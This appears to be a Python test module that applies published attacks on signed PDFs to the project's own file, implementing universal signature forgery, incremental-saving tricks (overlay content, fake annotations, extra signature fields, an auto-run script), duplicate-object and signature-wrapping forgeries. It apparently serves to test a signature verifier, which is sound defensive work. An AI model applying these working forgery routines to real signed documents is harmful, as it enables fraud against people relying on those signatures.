"""The published attacks on signed PDFs, applied to a file of ours. Source: pdf-insecurity.org."""

from __future__ import annotations

import io
import re
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields

Attack = Callable[[bytes], bytes]
_RANGE = re.compile(rb"/ByteRange \[[^\]]*\]")
_LAST_CONTENTS = re.compile(rb"/Contents <[0-9a-fA-F]+>")


def _replaced_last(pattern: re.Pattern[bytes], pdf: bytes, text: bytes) -> bytes:
    """The last match replaced by a text, padded so that no offset moves."""
    match = list(pattern.finditer(pdf))[-1]
    length = match.end() - match.start()
    return pdf[: match.start()] + text.ljust(length)[:length] + pdf[match.end() :]


def three_numbers(pdf: bytes) -> bytes:
    return _replaced_last(_RANGE, pdf, b"/ByteRange [0 10 20]")


def negative_numbers(pdf: bytes) -> bytes:
    return _replaced_last(_RANGE, pdf, b"/ByteRange [0 -10 20 30]")


def empty_range(pdf: bytes) -> bytes:
    return _replaced_last(_RANGE, pdf, b"/ByteRange []")


def range_of_zeros(pdf: bytes) -> bytes:
    return _replaced_last(_RANGE, pdf, b"/ByteRange [0 0 0 0]")


def null_range(pdf: bytes) -> bytes:
    return _replaced_last(_RANGE, pdf, b"/ByteRange null")


def no_range(pdf: bytes) -> bytes:
    return _replaced_last(_RANGE, pdf, b"")


def null_contents(pdf: bytes) -> bytes:
    return _replaced_last(_LAST_CONTENTS, pdf, b"/Contents null")


def no_contents(pdf: bytes) -> bytes:
    return _replaced_last(_LAST_CONTENTS, pdf, b"")


def zero_contents(pdf: bytes) -> bytes:
    match = list(_LAST_CONTENTS.finditer(pdf))[-1]
    zeros = b"0" * (match.end() - match.start() - len(b"/Contents <>"))
    return pdf[: match.start()] + b"/Contents <" + zeros + b">" + pdf[match.end() :]


UNIVERSAL_FORGERY: tuple[Attack, ...] = (
    three_numbers,
    negative_numbers,
    empty_range,
    range_of_zeros,
    null_range,
    no_range,
    null_contents,
    no_contents,
    zero_contents,
)


def _extended(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def append_page_content(pdf: bytes) -> bytes:
    """A new sum over the old one, in a revision of its own."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        stream = generic.StreamObject(stream_data=b"1 g 50 600 400 100 re f")
        writer.add_stream_to_page(0, writer.add_object(stream))

    return _extended(pdf, change)


def append_annotation(pdf: bytes) -> bytes:
    """A note that covers text: "evil annotation" against certified files."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Rect"): generic.ArrayObject(
                    [generic.NumberObject(number) for number in (50, 600, 450, 700)]
                ),
                pdf_name("/Contents"): generic.pdf_string("1 000 000 ₽"),
            }
        )
        page = writer.root["/Pages"]["/Kids"][0].get_object()
        annotations = page["/Annots"]
        annotations.append(writer.add_object(note))
        writer.update_container(annotations)

    return _extended(pdf, change)


def append_signature_field(pdf: bytes) -> bytes:
    """A new signature field over the text: "sneaky signature" against certified files."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        fields.append_signature_field(
            writer, fields.SigFieldSpec("Sneaky", box=(50, 600, 450, 700))
        )

    return _extended(pdf, change)


def append_script(pdf: bytes) -> bytes:
    """A script that runs when the file is opened, with the trust given to certified files."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        writer.root["/OpenAction"] = generic.DictionaryObject(
            {
                pdf_name("/S"): pdf_name("/JavaScript"),
                pdf_name("/JS"): generic.pdf_string("app.alert('paid')"),
            }
        )
        writer.update_root()

    return _extended(pdf, change)


def append_duplicate_object(pdf: bytes) -> bytes:
    """The page's content once more under its own number: a program that rebuilds the list of
    objects shows the second one, a program that reads the list the first."""
    number = IncrementalPdfFileWriter(io.BytesIO(pdf)).root["/Pages"]["/Kids"][0]
    content = number.get_object().raw_get("/Contents")
    reference = content[0] if isinstance(content, generic.ArrayObject) else content
    start = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    evil = b"1 g 50 600 400 100 re f"
    return (
        pdf
        + b"\n%d 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n"
        % (
            reference.idnum,
            len(evil),
            evil,
        )
        + (b"startxref\n%s\n%%%%EOF\n" % start)
    )


def append_unlisted_object(pdf: bytes) -> bytes:
    """The same before a list of its own, which does not name the object."""
    forged = append_duplicate_object(pdf)
    old = re.findall(rb"startxref\s+(\d+)", pdf)[-1]
    body = forged[: forged.rindex(b"startxref")]
    root = re.findall(rb"/Root (\d+ \d+ R)", pdf)[-1]
    size = re.findall(rb"/Size (\d+)", pdf)[-1]
    trailer = b"xref\n0 0\ntrailer\n<</Size %s /Root %s /Prev %s>>\n" % (size, root, old)
    return body + trailer + b"startxref\n%d\n%%%%EOF\n" % len(body)


def replace_stamp(pdf: bytes) -> bytes:
    """Another picture for the stamp of a signature already made."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        field = writer.root["/AcroForm"]["/Fields"][0].get_object()
        stream = generic.StreamObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(number) for number in (0, 0, 100, 50)]
                ),
            },
            stream_data=b"1 0 0 rg 0 0 100 50 re f",
        )
        field["/AP"] = generic.DictionaryObject({pdf_name("/N"): writer.add_object(stream)})
        writer.update_container(field)

    return _extended(pdf, change)


INCREMENTAL_SAVING: tuple[Attack, ...] = (
    append_page_content,
    append_annotation,
    append_signature_field,
    append_script,
    append_duplicate_object,
    append_unlisted_object,
    replace_stamp,
)


def wrap_second_range(pdf: bytes) -> bytes:
    """The second signed range moved to the end, and unsigned bytes put where it was."""
    match = list(_RANGE.finditer(pdf))[-1]
    _zero, length, start, rest = (int(part) for part in re.findall(rb"\d+", match.group()))
    evil = b"\n1 0 obj<</Evil true>>endobj\n".ljust(rest)[:rest]
    moved = pdf[:start] + evil + pdf[start : start + rest]
    text = b"/ByteRange [0 %d %d %d]" % (length, start + rest, rest)
    return _replaced_last(_RANGE, moved, text)
